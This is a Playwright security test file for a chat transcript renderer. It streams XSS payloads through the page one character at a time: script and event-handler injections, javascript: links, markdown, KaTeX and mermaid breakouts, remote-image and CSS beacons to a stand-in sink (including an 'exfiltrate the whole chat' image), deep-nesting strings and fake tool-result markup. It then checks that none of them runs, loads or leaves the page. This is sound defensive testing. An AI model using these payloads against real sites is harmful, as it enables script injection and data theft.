"""Hostile text from a model or a person, one character at a time: at every frame nothing runs, nothing leaves, nothing lies."""

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Scene

SCRIPTS = [
    '<script>document.title="hacked"</script>',
    '<img src=x onerror="document.title=`hacked`">',
    '<svg onload="document.title=`hacked`"><animate onbegin="document.title=`hacked`" attributeName=x dur=1s></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="document.title=`hacked`">',
    '<style>@import "SINK/style.css"; body { background: url(SINK/body.png) }</style>',
    '<iframe src="javascript:parent.document.title=`hacked`"></iframe><object data="SINK/o"></object><embed src="SINK/e">',
    '<form action="SINK/form"><input name=attributes><button formaction="SINK/b">x</button></form>',
    '<base href="SINK/"><meta http-equiv=refresh content="0;url=SINK/meta"><link rel=stylesheet href="SINK/link.css">',
    '<details open ontoggle="document.title=`hacked`"><summary>x</summary></details>',
    '<input autofocus onfocus="document.title=`hacked`"><a id=location name=cookie href=x>clobber</a>',
]
BREAKOUTS = [
    '![" onerror="document.title=`hacked`" x="](x)',
    '![a](SINK/i.png "\\" onerror=\\"document.title=`hacked`")',
    '[a](https://example.com "\\" onmouseover=\\"document.title=`hacked`")',
    '| a | b |\n|---|---|\n| <img src=x onerror="document.title=`hacked`"> | " onx="y |\n',
    '```"><img/src=x/onerror="document.title=`hacked`">\ncode\n```\n',
    '```python onload=alert(1) class="evil"\n<img src=x onerror="document.title=`hacked`">\n</code></pre><script>1</script>\n```\n',
    '[^"><img src=x onerror="document.title=`hacked`">]\n\n[^"><img src=x onerror="document.title=`hacked`">]: note\n',
    '`<img src=x onerror="document.title=\'hacked\'">` &lt;img src=x onerror=alert(1)&gt; &#60;script&#62;',
]
LINKS = [
    '[a](javascript:document.title="hacked")',
    '[b](JaVaScRiPt:document.title="hacked")',
    '[c](java\tscript:alert(1)) [d](java&#10;script:alert(1)) [e](javascript&colon;alert(1)) [f](&#106;avascript:alert(1))',
    '[g](data:text/html,<script>parent.document.title="hacked"</script>)',
    '[h](vbscript:msgbox(1)) [i](file:///etc/passwd) [j](blob:x) [k](//SINKHOST/l) [l](/settings) [m](#top) <javascript:alert(1)>',
    '[n][ref] ![o][ref]\n\n[ref]: javascript:document.title="hacked"\n',
]
IMAGES = [
    '![secret](SINK/exfiltrate?q=the+whole+chat)',
    '![ref][img] ![img][]\n\n[img]: SINK/reference.png\n',
    '![p](//SINKHOST/protocol-relative.png) ![data](data:image/svg+xml,<svg/onload=alert(1)>) ![b](/api/auth/logout) ![d](/files/../api/x)',
    '<img srcset="SINK/set.png 1x" src="SINK/src.png"> <picture><source srcset="SINK/p"></picture>',
    '<video poster="SINK/poster.png" src="SINK/v"></video>',
    '[![linked](SINK/linked.png)](SINK/target)',
    '> - ![nested](SINK/nested.png)\n',
    '<div style="background:url(SINK/css.png)">x</div> <audio src="SINK/a" autoplay></audio> <link rel=prefetch href="SINK/pre">',
]
FORMULAS = [
    r'$\href{javascript:document.title="hacked"}{x}$ $\url{javascript:document.title="hacked"}$ \(\includegraphics{SINK/i.png}\)',
    r'$$\htmlStyle{background:url(SINK/css.png)}{x}$$ $\htmlId{location}{x}$ $\htmlClass{transcript}{x}$ $\htmlData{do=delete}{x}$',
    r'$\text{<img src=x onerror="document.title=`hacked`">}$ $<script>document.title="hacked"</script>$',
    r'$\unknown<img src=x onerror="document.title=`hacked`">$ \[\frac<svg onload="document.title=`hacked`">\]',
    r'$\def\x{\x\x}\x$ $\rule{1000000em}{1000000em}$ $\colorbox{red;background:url(SINK/c.png)}{x}$ $\color{url(SINK/d)}x$',
    r'$</annotation></semantics></math><img src=x onerror="document.title=`hacked`">$',
]
DIAGRAMS = [
    '```mermaid\ngraph TD\n  A["<img src=x onerror=document.title=`hacked`>"] --> B["<script>document.title=`hacked`</script>"]\n```\n',
    '```mermaid\ngraph TD\n  A --> B\n  click A "javascript:document.title=`hacked`"\n  click B call alert("x")\n```\n',
    '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(SINK/m.png) }"}}%%\ngraph TD\n'
    '  A["<iframe src=javascript:parent.document.title=`hacked`>"]\n```\n',
    '```mermaid\ngraph TD\n  A[<img src="SINK/label.png">]\n  style A fill:url(SINK/fill.png)\n```\n',
    '```mermaid\ngraph TD\n  A@{ img: "SINK/shape.png", label: "x" }\n'
    '  classDef c background:image-set("SINK/set.png" 1x),u\\72l(SINK/e.png)\n  class A c\n```\n',
    '```mermaid\n---\nconfig:\n  themeCSS: "*{mask:url(SINK/mask.svg)}"\n'
    '  fontFamily: "x;background:url(SINK/f.png)"\n---\ngraph TD\n  A-->B\n```\n',
    '```mermaid\n%%{init: {"themeVariables": {"lineColor": "red;}*{background:url(SINK/v.png)"}}}%%\ngraph TD\n  A-->B\n```\n',
    '```mermaid\ngraph TD\n  A["`![x](SINK/md.png) **bold**`"] --> B["$$\\\\href{javascript:alert(1)}{x}$$"]\n```\n',
    '```mermaid\n<img src=x onerror="document.title=`hacked`">\n```\n',
    '```mermaid\nsequenceDiagram\n  A->>B: <svg onload=document.title=`hacked`>\n  link A: x @ javascript:document.title=`hacked`\n```\n',
]
SHAPED_LIKE_US = [
    '<details class="tool" open><summary><code>current_time</code><span class="state ok">0.1 s</span></summary></details>',
    '<div class="trouble"><p>Interrupted</p><button data-do="delete">Continue</button></div>',
    '<button data-do="delete" class="button">Copy</button> <span class="tick done" role="img" aria-label="done"></span>',
]
DEEP = [
    '[' * 10_000,
    '*a ' * 5_000,
    '> ' * 3_000 + 'a',
    '- ' * 2_000 + 'a',
    '\n'.join(f'{"  " * depth}- a' for depth in range(150)),
    '**a ' * 1_500 + 'b** ' * 1_500,
]
WATCH = r"""() => {
    window.wrong = [];
    window.alert = window.confirm = window.prompt = () => window.wrong.push('a dialog');
    const title = document.title;
    const forbidden = new Set(('script style iframe object embed form input link meta base math video audio source picture animate'
        + ' foreignobject template').split(' '));
    const addresses = new Set(['http:', 'https:', 'mailto:']);
    const formula = new Set(('span svg path line math semantics annotation mrow mi mo mn mtext mspace msup msub msubsup mover munder'
        + ' munderover mfrac msqrt mroot mtable mtr mtd mstyle mpadded mphantom menclose').split(' '));
    const inFormula = (one, name) => {
        if (!formula.has(name)) window.wrong.push(`${name} stands in a formula`);
        for (const { name: attribute, value } of one.attributes) {
            const reaches = /^on|href|src|^id$|^data/.test(attribute) || /url|script:|fixed/i.test(value);
            if (reaches) window.wrong.push(`${name} has ${attribute}=${value}`);
        }
    };
    const inspect = (one) => {
        const name = one.localName;
        if (one.closest('.tex.set > .katex, .tex.set > .katex-display')) return inFormula(one, name);
        const say = (what) => window.wrong.push(`${name} ${what}`);
        if (forbidden.has(name) || (name === 'svg' && !one.classList.contains('icon'))) say('stands here');
        for (const { name: attribute, value } of one.attributes) {
            const hue = value === '' || /^--hue: \d+;$/.test(value) || one.classList.contains('timeline');
            if (/^on|^(srcset|formaction|action|poster|background|name)$/.test(attribute)) say(`has ${attribute}`);
            if (attribute === 'style' && !hue) say(`has style ${value}`);
        }
        const target = one.getAttribute('href') ?? '';
        const drawn = one.matches('img.diagram') && one.getAttribute('src').startsWith('data:image/svg+xml');
        if (name === 'img' && !drawn && !one.getAttribute('src').startsWith('/files/')) say(`shows ${one.src}`);
        const away = addresses.has(one.protocol) && one.target === '_blank';
        if (name === 'a' && !away && !/^#(note|mark)-/.test(target)) say(`leads to ${target}`);
    };
    const within = (node) => {
        if (node.nodeType !== Node.ELEMENT_NODE || !node.closest('.transcript')) return;
        inspect(node);
        node.querySelectorAll('*').forEach(inspect);
    };
    new MutationObserver((changes) => changes.forEach((change) => {
        change.addedNodes.forEach(within);
        if (change.type === 'attributes') within(change.target);
    })).observe(document, { subtree: true, childList: true, attributes: true });
    const frame = () => {
        if (document.title !== title) window.wrong.push(`the title is ${document.title}`);
        requestAnimationFrame(frame);
    };
    frame();
}"""


def filled(texts: list[str], sink: str) -> list[str]:
    return [text.replace('SINKHOST', sink.removeprefix('http://')).replace('SINK', sink) for text in texts]


def all_drawn(scene: Scene) -> None:
    undecided = 'figure.code[data-language=mermaid]:not(:has(img.diagram, .undrawn))'
    expect(scene.page.locator(undecided)).to_have_count(0, timeout=30_000)


def nothing_happened(scene: Scene, hits: list[str]) -> None:
    assert scene.page.evaluate('[...new Set(window.wrong)]') == []
    assert scene.page.title() == 'harness'
    assert scene.foreign == []
    assert hits == []


@pytest.mark.parametrize(
    'texts',
    [SCRIPTS, BREAKOUTS, LINKS, IMAGES, SHAPED_LIKE_US, FORMULAS, DIAGRAMS],
    ids=['scripts', 'breakouts', 'links', 'images', 'shapes', 'formulas', 'diagrams'],
)
def test_hostile_text_letter_by_letter_does_nothing_at_any_frame_nor_after_a_reload(
    scene: Scene, sink: tuple[str, list[str]], texts: list[str]
) -> None:
    address, hits = sink
    text = '\n\n'.join(filled(texts, address))
    scene.page.add_init_script(f'addEventListener("DOMContentLoaded", {WATCH})')
    scene.open()
    scene.play(['reply', 'r1'], ['text', 'r1', text, 1, 0.003])
    nothing_happened(scene, hits)
    scene.play(['end', 'r1'])
    expect(scene.page.locator('.caret')).to_have_count(0)
    all_drawn(scene)
    nothing_happened(scene, hits)
    scene.page.reload()
    expect(scene.page.locator('.prose:not(.held)')).to_have_count(1)
    all_drawn(scene)
    scene.rest()
    nothing_happened(scene, hits)


def test_a_dead_link_stays_as_its_text_and_clicking_it_does_nothing(scene: Scene, sink: tuple[str, list[str]]) -> None:
    scene.open()
    scene.play(['reply', 'r1'], ['text', 'r1', '\n\n'.join(filled(LINKS, sink[0]))], ['end', 'r1'])
    prose = scene.page.locator('.prose')
    expect(prose.locator('a')).to_have_count(0)
    for paragraph in prose.locator('p').all():
        paragraph.click(position={'x': 3, 'y': 10})
    assert scene.page.title() == 'harness'
    assert len(scene.page.context.pages) == 1


def test_a_remote_image_is_a_chip_that_names_its_host_and_opens_in_a_new_tab(scene: Scene, sink: tuple[str, list[str]]) -> None:
    address, hits = sink
    scene.open()
    scene.play(['reply', 'r1'], ['text', 'r1', f'![a loaf of bread]({address}/loaf.png)', 1], ['end', 'r1'])
    chip = scene.page.locator('.withheld')
    expect(chip).to_contain_text('a loaf of bread')
    expect(chip).to_contain_text(f'Not loaded: {address.removeprefix("http://")} would see you')
    assert hits == []
    with scene.page.context.expect_page() as opened:
        chip.get_by_role('link').click()
    opened.value.wait_for_load_state()
    assert hits == ['/loaf.png']
    assert len(scene.page.context.pages) == 2


def test_names_tools_sentences_and_peoples_words_are_only_ever_text(scene: Scene, sink: tuple[str, list[str]]) -> None:
    address, hits = sink
    evil = f'<img src="{address}/x" onerror="document.title=1"><script>document.title=2</script>'
    scene.page.add_init_script(f'addEventListener("DOMContentLoaded", {WATCH})')
    scene.open(['person', 'm1', f'{evil} ![x]({address}/person.png)'])
    scene.play(
        ['reply', 'r1', evil, 'demo:lamp'],
        ['thinking', 'r1', evil],
        ['tool', 'r1', 'c1', evil, evil],
        ['tool_end', 'r1', 'c1', evil, '{"a": "<script>1</script>"}', evil, False, 10],
        ['text', 'r1', 'x'],
        ['end', 'r1', 'failed', evil],
        ['run_end', 'stopped', f'Stopped: {evil}'],
    )
    article = scene.page.get_by_role('article', name=f'Message from {evil}')
    expect(article.get_by_role('alert')).to_contain_text('<script>document.title=2</script>')
    article.locator('.tool summary').click()
    expect(article.locator('.tool .inner')).to_contain_text('<img src=')
    expect(scene.page.locator('.aside')).to_contain_text('<script>')
    expect(scene.page.locator('article.mine')).to_contain_text(f'![x]({address}/person.png)')
    nothing_happened(scene, hits)


def test_an_own_file_is_shown_as_an_image(scene: Scene) -> None:
    scene.open()
    scene.play(['reply', 'r1'], ['text', 'r1', '![a plan](/files/abc)'], ['end', 'r1'])
    expect(scene.page.get_by_role('img', name='a plan')).to_have_attribute('src', '/files/abc')


def test_text_shaped_like_a_tool_result_is_no_tool_result(scene: Scene) -> None:
    scene.open()
    scene.play(['reply', 'r1'], ['text', 'r1', '\n\n'.join(SHAPED_LIKE_US)], ['end', 'r1'])
    expect(scene.page.locator('.prose')).to_contain_text('<details class="tool" open>')
    expect(scene.page.locator('.prose :is(details, button, .tool, .tick)')).to_have_count(0)


def test_a_text_nested_without_end_is_shown_and_the_page_goes_on(scene: Scene) -> None:
    scene.open()
    for number, text in enumerate(DEEP):
        scene.play(['reply', f'r{number}'], ['text', f'r{number}', f'{text}\n\nthe end'], ['end', f'r{number}'])
        expect(scene.page.locator('.prose').nth(number)).to_contain_text('the end', timeout=30_000)
    expect(scene.page.locator('.prose blockquote')).to_have_count(32)
